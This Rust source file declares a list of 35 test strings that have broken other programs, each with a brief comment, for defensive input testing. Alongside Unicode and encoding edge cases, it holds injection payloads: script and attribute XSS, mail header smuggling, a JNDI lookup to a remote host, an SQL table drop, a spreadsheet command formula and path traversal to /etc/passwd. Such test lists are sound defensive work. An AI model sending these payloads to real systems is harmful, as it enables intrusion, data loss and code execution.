//! Texts that have broken other programs, for every field that takes a text. Our own list: what each is about stands
//! behind it.

pub const EVIL: [&str; 35] = [
    "",                                                   // nothing
    " \t ",                                               // nothing to see
    "\u{0}",                                              // the end, for programs in C
    "a\u{0}b",                                            // half of it
    "\u{1b}[31mred\u{7}",                                 // a terminal obeys
    "a\r\nBcc: everybody@example.jp\r\n\r\nbody",         // a header of its own, then a body
    "a\nDTSTART:20000101T000000Z\nEND:VEVENT",            // a calendar ends here
    "\r\n.\r\nQUIT\r\n",                                  // a mail ends here
    "</textarea><script>alert(1)</script>",               // out of the field
    "\"><img src=x onerror=alert(1)>",                    // out of the attribute
    "' onfocus=alert(1) autofocus='",                     // out of the other quotes
    "<!--",                                               // the rest is a comment
    "<svg/onload=alert(1)//",                             // never closed
    "]]>&lt;&#x3c;&amp;",                                 // escaped once, or twice
    "javascript:alert(1)",                                // an address
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",                   // templates
    "${jndi:ldap://example.jp/a}",                        // a log obeys
    "'; DROP TABLE bookings; --",                         // a database obeys
    "=cmd|' /C calc'!A0",                                 // a spreadsheet obeys
    "../../../../etc/passwd",                             // a path
    "%00%0d%0aSet-Cookie:%20a=b",                         // escaped for somebody else
    "\\\"\\u0022\\\\",                                    // escaped for JSON
    "\n\na line further down",                            // browsers swallow the first line end
    "\u{feff}a\u{feff}",                                  // marks of byte order
    "\u{202e}gnp.exe",                                    // read from the right
    "a\u{200b}\u{200d}\u{2060}b",                         // not to be seen
    "\u{2028}\u{2029}\u{85}",                             // line ends of other standards
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}", // a tower
    "👩🏽‍💻👨‍👩‍👧‍👦🇯🇵",                                             // one sign, many characters
    "𠮷野家の髙﨑さん",                                   // names beyond the first plane
    "ﾊﾝｶｸｶﾅﾀﾞﾖ　全角！？",                                 // widths
    "表示ソ能－∥～",                                      // what old encodings break
    "\u{fffe}\u{ffff}\u{10ffff}",                         // no characters at all
    "null undefined NaN true 0",                          // words that are values elsewhere
    "%s%n%x {} {0} %(a)s",                                // formats
];
